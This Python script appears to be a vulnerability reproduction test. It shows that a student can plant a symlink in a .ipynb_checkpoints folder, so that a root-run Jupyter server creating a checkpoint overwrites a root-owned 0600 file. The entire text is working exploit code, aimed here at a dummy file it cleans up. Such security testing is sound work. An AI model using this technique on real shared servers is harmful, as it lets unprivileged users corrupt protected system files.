"""a08c: a08 for a root TA: os.access says root may write the student's folder, so the checkpoint goes to
<her folder>/.ipynb_checkpoints/<name>-checkpoint.ipynb; she made that folder first with a link named for the
checkpoint, pointing at a root-owned file. The TA's server (root) creates a checkpoint of her notebook."""
import os, subprocess, json
sfold = "/tmp/attack52-user-a08c/st52u+ps1_memory+2026-11-30 00:00:00.000000 UTC"
subprocess.run(["rm", "-rf", "/tmp/attack52-user-a08c"]); os.makedirs(sfold)
victim = "/tmp/attack52-user-a08c-root-victim"
open(victim, "w").write("root's own file\n"); os.chmod(victim, 0o600)
json.dump(json.load(open("CLONE/release/ps1_memory/ps1_memory.ipynb")), open(f"{sfold}/ps1_memory.ipynb", "w"))
subprocess.run(["chown", "-R", "1001:1001", "/tmp/attack52-user-a08c"])
plant = f"import os; d = {json.dumps(sfold)} + '/.ipynb_checkpoints'; os.mkdir(d); os.symlink({json.dumps(victim)}, d + '/ps1_memory-checkpoint.ipynb'); print('planted')"
print(subprocess.run(["setpriv", "--reuid", "1001", "--regid", "1001", "--clear-groups", "/usr/bin/python3", "-c", plant], capture_output=True, text=True).stdout)
ta = f"""
from jupyter_server.services.contents.filemanager import FileContentsManager
cm = FileContentsManager(root_dir='/tmp')
print('root TA creates a checkpoint:', cm.create_checkpoint({json.dumps(os.path.relpath(sfold, '/tmp') + '/ps1_memory.ipynb')}))
"""
r = subprocess.run(["CLONE/.venv/bin/python", "-c", ta], capture_output=True, text=True)
print(r.stdout, r.stderr[-800:])
print("root's 0600 file now starts:", repr(open(victim).read()[:100]), "owner", os.stat(victim).st_uid)
subprocess.run(["rm", "-rf", "/tmp/attack52-user-a08c", victim])
